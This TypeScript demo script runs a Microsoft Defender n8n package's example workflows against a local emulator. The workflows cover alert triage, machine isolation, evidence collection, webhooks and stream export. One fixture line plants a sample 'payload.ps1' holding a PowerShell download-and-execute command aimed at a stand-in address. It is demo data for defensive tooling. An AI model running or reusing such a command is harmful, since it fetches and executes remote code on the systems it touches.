/* eslint-disable @n8n/community-nodes/no-restricted-imports, @n8n/community-nodes/no-restricted-globals, no-console */
/**
 * `npm run demo`: the package's main job with no Azure tenant.
 *
 * Builds and packs the package, starts the Defender emulator on 127.0.0.1, installs the tarball
 * into a throwaway n8n user folder the way n8n's community-package installer does, imports a
 * credential pointing at the emulator and the example workflows, runs them in a real n8n and
 * prints what each one did.
 *
 *   npm run demo                 # n8n 1.123 on this machine's Node 20 (installed once, cached)
 *   npm run demo -- --n8n 2      # n8n 2.x on Node 24 from the npm package `node`
 *   npm run demo -- --ui         # leave n8n running at http://127.0.0.1:5678 to click around
 *   npm run demo -- --queue      # queue mode: PostgreSQL + Redis + n8n main + 2 workers (needs
 *                                # redis-server and postgresql: bash scripts/ci/services.sh)
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

import { startEmulator } from '../test/emulator';
import { FIXTURE } from '../test/emulator/core/fixture';
import { emulatorCredentials } from '../test/harness';
import { DEV_KEY, hourPath, recordLines, startAzurite, StreamFixture, type Azurite } from '../test/stream/azurite';
import * as n8n from './n8n/harness';
import { createQueueCluster, type QueueCluster } from './n8n/queue';

const args = process.argv.slice(2);
const ui = args.includes('--ui');
const queue = args.includes('--queue');
const lineArg = args.indexOf('--n8n');
const line = (lineArg >= 0 ? Number(args[lineArg + 1]) : 1) as n8n.N8nLine;
if (line !== 1 && line !== 2) {
	console.error('--n8n takes 1 (n8n 1.123 on Node 20) or 2 (n8n 2.x on Node 24)');
	process.exit(2);
}

const STEPS = queue ? 7 : 11;
const started = Date.now();
let step = 0;
function stage(text: string) {
	step++;
	console.log(`\n[demo ${step}/${STEPS}] ${text}  (t+${Math.round((Date.now() - started) / 1000)}s)`);
}
function info(text: string) {
	console.log(`    ${text}`);
}

const CREDENTIAL_ID = 'defenderDemoCredential';
const summary: string[] = [];

type Json = Record<string, unknown>;

function loadExamples(): Json[] {
	return readdirSync(join(n8n.REPO_ROOT, 'examples'))
		.filter((f) => f.endsWith('.json'))
		.sort()
		.map((f) => JSON.parse(readFileSync(join(n8n.REPO_ROOT, 'examples', f), 'utf8')) as Json);
}

/** The example's storage endpoints are Azurite's default ports; the demo's Azurite uses free ones. */
function pointAtAzurite(wf: Json, az: Azurite): Json {
	const nodes = (wf.nodes as Json[]).map((n) =>
		n.type === 'n8n-nodes-microsoft-defender.microsoftDefenderStreamTrigger'
			? { ...n, parameters: { ...(n.parameters as Json), blobEndpoint: az.blobUrl, queueEndpoint: az.queueUrl } }
			: n,
	);
	return { ...wf, nodes };
}

async function main() {
	if (queue) return await queueDemo();
	stage('Building and packing the package (npm run build, npm pack)');
	const build = await n8n.run('npm', ['run', 'build', '--silent'], { cwd: n8n.REPO_ROOT, timeoutMs: 300_000 });
	if (build.code !== 0) throw new Error(`npm run build failed:\n${build.stdout}\n${build.stderr}`);
	const tarball = await n8n.packPackage();
	info(`packed ${tarball}`);

	stage(`Making sure n8n ${n8n.N8N_VERSIONS[line]} is installed (the first run installs it: several minutes)`);
	if (n8n.isN8nInstalled(line)) info(`cached in ${n8n.n8nInstallDir(line)}`);
	const folder = await n8n.createUserFolder({ line });
	info(`user folder ${folder.userFolder}`);

	stage('Starting the Defender emulator on 127.0.0.1');
	const emu = await startEmulator({
		seed: 7,
		sizes: { machines: 40, alerts: 600, incidents: 200, huntingRows: 3000 },
		actionTiming: { pendingMs: 1500, inProgressMs: 1500 },
	});
	const tenant = FIXTURE.tenants.A.id;
	const store = emu.store(tenant);
	info(`emulator at ${emu.httpUrl} (tenant ${FIXTURE.tenants.A.domain}, ${store.counts().alerts} alerts)`);

	let server: n8n.RunningN8n | undefined;
	let azurite: Azurite | undefined;
	try {
		stage('Installing the package into n8n and importing the credential and example workflows');
		await n8n.installPackageTarball(folder, tarball);
		const credential = {
			id: CREDENTIAL_ID,
			name: 'Microsoft Defender (demo emulator)',
			type: 'microsoftDefenderEntraAppApi',
			data: emulatorCredentials(emu, { app: 'full', tenant: 'A' }),
		};
		await n8n.importCredentials(folder, [
			credential,
			{
				id: 'defenderDemoStorageCredential',
				name: 'Azure Storage (demo Azurite)',
				type: 'microsoftDefenderStorageApi',
				data: { authentication: 'accountKey', accountKeySecret: DEV_KEY },
			},
		]);
		// Workflow 5 reads the streaming export from Azurite (started here on free ports).
		azurite = await startAzurite();
		const examples = loadExamples()
			.filter((wf) => wf.id !== 'defenderExampleAiAgent')
			.map((wf) => (wf.id === 'defenderExampleStreamExport' ? pointAtAzurite(wf, azurite!) : wf));
		await n8n.importWorkflows(folder, examples);
		info(`imported ${examples.length} workflows (the AI-agent example needs a model and is not run)`);

		stage('Workflow 1: new high-severity alerts → hunting → isolate (wait for completion) → comment on the incident');
		emu.clearLog();
		const res = await n8n.executeWorkflow(folder, 'defenderExampleAlertTriage', 300_000);
		if (!res.ok || !res.run) {
			throw new Error(`workflow 1 failed: ${JSON.stringify(res.run?.data.resultData.error ?? res.stderr.slice(-2000))}`);
		}
		const alerts = n8n.nodeOutput(res.run, 'Get new high-severity alerts');
		const hunts = n8n.nodeOutput(res.run, 'Hunt on the device');
		const isolations = n8n.nodeOutput(res.run, 'Isolate the device');
		const comments = n8n.nodeOutput(res.run, 'Comment on the incident');
		const rows = hunts.reduce((sum, h) => sum + (Array.isArray(h.rows) ? h.rows.length : 0), 0);
		info(`alerts found: ${alerts.length}`);
		for (const a of alerts) info(`  - ${a.id} "${a.title}" on machine ${a.machineId}, incident ${a.incidentId}`);
		info(`hunting rows: ${rows} (over ${hunts.length} queries)`);
		for (const m of isolations) {
			info(`  isolation of ${m.computerDnsName ?? m.machineId}: ${m.status}${m.alreadyPending ? ' (was already pending: reused)' : ''}`);
		}
		info(`incident comments added: ${comments.length}`);
		const isolatedNow = isolations.filter((m) => store.machineState(String(m.machineId)).isolated).length;
		summary.push(
			`1 alert triage      ${alerts.length} alerts, ${rows} hunting rows, ${isolations.length} isolations (${isolatedNow} machines isolated in the emulator), ${comments.length} incident comments`,
		);

		stage('Workflow 6: a high-severity alert → Live Response collects a file from its device (binary data) → SHA-256 → comment on the incident');
		store.setLiveResponseFile('C:\\Windows\\Temp\\payload.ps1', 0, 'Invoke-WebRequest http://203.0.113.7/stage2.ps1 | Invoke-Expression\n');
		const ev = await n8n.executeWorkflow(folder, 'defenderExampleCollectEvidence', 300_000);
		if (!ev.ok || !ev.run) {
			throw new Error(`workflow 6 failed: ${JSON.stringify(ev.run?.data.resultData.error ?? ev.stderr.slice(-2000))}`);
		}
		const collected = n8n.nodeOutput(ev.run, 'Fingerprint the stored file');
		for (const f of collected) info(`  collected ${f.fileName} (${f.fileSize}, ${f.mimeType}) from ${f.computerDnsName}, SHA-256 ${f.sha256}`);
		const evComments = n8n.nodeOutput(ev.run, 'Comment on the incident');
		summary.push(`6 collect evidence  ${collected.length} file(s) collected into binary data, ${evComments.length} incident comment(s)`);

		stage('Publishing workflows 2 and 3 and starting n8n');
		const incident = store.addIncident({
			incidentName: 'Demo: ransomware behaviour on a finance laptop',
			severity: 'High',
			alerts: 2,
		});
		info(`added incident ${incident.incidentId} to the emulator for the trigger to find`);
		await n8n.publishWorkflow(folder, 'defenderExampleWebhookResponse');
		await n8n.publishWorkflow(folder, 'defenderExampleIncidentTrigger');
		const fx = new StreamFixture(azurite);
		await fx.createQueue('defender-blob-created');
		const streamPath = `demo/${hourPath(new Date(Date.now() - 2 * 3600000))}`;
		await fx.append('DeviceNetworkEvents', streamPath, recordLines('DeviceNetworkEvents', 0, 300));
		await fx.announce('defender-blob-created', 'DeviceNetworkEvents', streamPath);
		info(`Azurite at ${azurite.blobUrl}: 300 DeviceNetworkEvents records in ${streamPath}, Blob Created event queued`);
		await n8n.publishWorkflow(folder, 'defenderExampleStreamExport');
		server = await n8n.startN8n(folder, { port: ui ? 5678 : undefined });
		info(`n8n ${folder.version} is up at ${server.baseUrl}`);
		const rest = await n8n.setupOwnerAndLogin(server);

		stage('Workflow 2: a webhook isolates, then releases, a machine and answers with the final machine action');
		// n8n 2.x registers published webhooks a moment after it reports ready.
		await server.waitForWebhook('defender/machine-action');
		const machine = store.machines[1].computerDnsName;
		for (const action of ['isolate', 'release']) {
			const response = await fetch(`${server.baseUrl}/webhook/defender/machine-action`, {
				method: 'POST',
				headers: { 'content-type': 'application/json' },
				body: JSON.stringify({ machine, action, reason: 'n8n demo' }),
			});
			const body = (await response.json()) as Json;
			info(`POST /webhook/defender/machine-action {"action":"${action}"} → HTTP ${response.status}: ${body.type} ${body.status} on ${body.computerDnsName}`);
			summary.push(`2 webhook ${action.padEnd(8)}  HTTP ${response.status}, machine action ${body.type} → ${body.status} (${body.computerDnsName})`);
		}
		info(`machine isolated in the emulator now: ${store.machineState(store.machines[1].id).isolated}`);

		stage('Workflow 3: the Defender Trigger picks up the new incident and a summary is built');
		const execution = await n8n.waitFor(async () => {
			const list = await rest.listExecutions('defenderExampleIncidentTrigger');
			return list.find((e) => e.status === 'success');
		}, 120_000, 2000);
		const details = await rest.getExecution(execution.id, line);
		const runData = details.data?.resultData.runData ?? {};
		const summaries = (runData['Readable summary']?.[0]?.data?.main?.[0] ?? []).map((i) => i.json);
		for (const s of summaries) info(String(s.summary));
		summary.push(`3 incident trigger  ${summaries.length} new incident(s): ${summaries.map((s) => `#${s.incidentId} with ${s.alertCount} alerts`).join(', ')}`);

		stage('Workflow 5: the Defender Stream Trigger reads the streaming export (Azurite) and keeps the failed connections');
		const streamRun = await n8n.waitFor(async () => {
			const list = await rest.listExecutions('defenderExampleStreamExport');
			return list.find((e) => e.status === 'success');
		}, 120_000, 2000);
		const streamDetails = await rest.getExecution(streamRun.id, line);
		const connections = (streamDetails.data?.resultData.runData['Connection summary']?.[0]?.data?.main?.[0] ?? []).map((i) => i.json);
		for (const c of connections.slice(0, 3)) info(`${c.time} ${c.device} → ${c.remote} ${c.action}`);
		info(`… ${connections.length} failed connections of 300 records`);
		summary.push(`5 stream export     ${connections.length} failed connections (ActionType filter) from 300 streamed records`);

		stage('Done');
		console.log('\nSummary');
		for (const line of summary) console.log(`  ${line}`);
		const calls = emu.log.filter((e) => e.family !== 'control').length;
		console.log(`  emulator answered ${calls} API and token requests since workflow 1; tokens issued: ${emu.log.filter((e) => e.family === 'entra').length}`);

		if (ui) {
			console.log(`\nn8n is running at ${server.baseUrl}  (login: ${n8n.OWNER.email} / ${n8n.OWNER.password})`);
			console.log(`The emulator is at ${emu.httpUrl}. Press Ctrl+C to stop both.`);
			await new Promise<void>((resolve) => process.once('SIGINT', () => resolve()));
		}
	} finally {
		await server?.stop();
		await emu.close();
		await azurite?.close();
		if (!ui) await folder.cleanup();
	}
	console.log(`\nDemo finished in ${Math.round((Date.now() - started) / 1000)}s`);
}

/**
 * `--queue`: the same package in n8n's queue mode. PostgreSQL and Redis start on 127.0.0.1 with
 * their own data folders, n8n main runs the trigger and the webhook, two workers (each with the
 * package installed in its own user folder) run the executions. Everything stops at the end.
 */
async function queueDemo() {
	stage('Building and packing the package (npm run build, npm pack)');
	const build = await n8n.run('npm', ['run', 'build', '--silent'], { cwd: n8n.REPO_ROOT, timeoutMs: 300_000 });
	if (build.code !== 0) throw new Error(`npm run build failed:\n${build.stdout}\n${build.stderr}`);
	const tarball = await n8n.packPackage();
	info(`packed ${tarball}`);

	stage(`Making sure n8n ${n8n.N8N_VERSIONS[line]} is installed (the first run installs it: several minutes)`);
	await n8n.ensureN8n(line);

	stage('Starting the Defender emulator on 127.0.0.1');
	const emu = await startEmulator({ seed: 7, sizes: { machines: 40, alerts: 200, incidents: 60 }, actionTiming: { pendingMs: 1500, inProgressMs: 1500 } });
	const store = emu.store(FIXTURE.tenants.A.id);
	info(`emulator at ${emu.httpUrl}`);

	let cluster: QueueCluster | undefined;
	try {
		stage('Starting PostgreSQL and Redis, installing the package on main and on 2 workers');
		cluster = await createQueueCluster({ line, tarball, workers: 2, mainPort: ui ? 5678 : undefined, log: info });
		await cluster.importCredentials([
			{ id: CREDENTIAL_ID, name: 'Microsoft Defender (demo emulator)', type: 'microsoftDefenderEntraAppApi', data: emulatorCredentials(emu, { app: 'full', tenant: 'A' }) },
		]);
		await cluster.importWorkflows(
			// The streaming-export example needs Azurite; the plain demo runs it.
			loadExamples().filter((wf) => wf.id !== 'defenderExampleAiAgent' && wf.id !== 'defenderExampleStreamExport'),
			['defenderExampleWebhookResponse', 'defenderExampleIncidentTrigger'],
		);
		const incident = store.addIncident({ incidentName: 'Demo: ransomware behaviour on a finance laptop', severity: 'High', alerts: 2 });
		info(`added incident ${incident.incidentId} to the emulator for the trigger to find`);
		emu.clearLog();
		await cluster.start();
		const main = cluster.main!;
		const rest = await n8n.setupOwnerAndLogin(main);

		stage('Workflow 2 through the cluster: main takes the webhook, a worker isolates and releases, main answers');
		await main.waitForWebhook('defender/machine-action');
		const machine = store.machines[1].computerDnsName;
		for (const action of ['isolate', 'release']) {
			const from = emu.log.length;
			const response = await fetch(`${main.baseUrl}/webhook/defender/machine-action`, {
				method: 'POST',
				headers: { 'content-type': 'application/json' },
				body: JSON.stringify({ machine, action, reason: 'n8n queue-mode demo' }),
			});
			const body = (await response.json()) as Json;
			const by = [...new Set(emu.log.slice(from).filter((e) => e.family === 'mde').map((e) => e.client))].join(', ');
			info(`POST /webhook/defender/machine-action {"action":"${action}"} → HTTP ${response.status}: ${body.type} ${body.status} on ${body.computerDnsName} (Defender calls sent by ${by})`);
			summary.push(`2 webhook ${action.padEnd(8)}  HTTP ${response.status}, ${body.type} → ${body.status}, run by ${by}`);
		}

		stage('Workflow 3: the trigger polls in main, a worker builds the summary');
		const execution = await n8n.waitFor(async () => {
			const list = await rest.listExecutions('defenderExampleIncidentTrigger');
			return list.find((e) => e.status === 'success');
		}, 120_000, 2000);
		const details = await rest.getExecution(execution.id, line);
		const summaries = (details.data?.resultData.runData['Readable summary']?.[0]?.data?.main?.[0] ?? []).map((i) => i.json);
		for (const s of summaries) info(String(s.summary));
		// Trigger polls list incidents; the workflow's own steps (run by a worker) may list them too.
		const lists = emu.log.filter((e) => e.method === 'GET' && /security\/incidents$/.test(e.path));
		const byMain = lists.filter((e) => e.client === 'main').length;
		summary.push(`3 incident trigger  ${summaries.length} new incident(s); ${byMain} incident list call(s) by main (the poller), ${lists.length - byMain} by workers`);

		stage('Done');
		console.log('\nSummary');
		for (const s of summary) console.log(`  ${s}`);
		const per = new Map<string, number>();
		for (const e of emu.log) if (e.family !== 'control') per.set(e.client ?? '?', (per.get(e.client ?? '?') ?? 0) + 1);
		console.log(`  requests to the emulator per n8n process: ${[...per].map(([k, v]) => `${k} ${v}`).join(', ')}`);
		if (ui) {
			console.log(`\nn8n main is running at ${main.baseUrl}  (login: ${n8n.OWNER.email} / ${n8n.OWNER.password})`);
			console.log('Press Ctrl+C to stop main, the workers, Redis, PostgreSQL and the emulator.');
			await new Promise<void>((resolve) => process.once('SIGINT', () => resolve()));
		}
	} finally {
		await cluster?.stop();
		await emu.close();
	}
	console.log(`\nQueue-mode demo finished in ${Math.round((Date.now() - started) / 1000)}s (everything it started is stopped)`);
}

main().catch((error: Error) => {
	console.error(`\nDemo failed: ${error.message}`);
	process.exit(1);
});
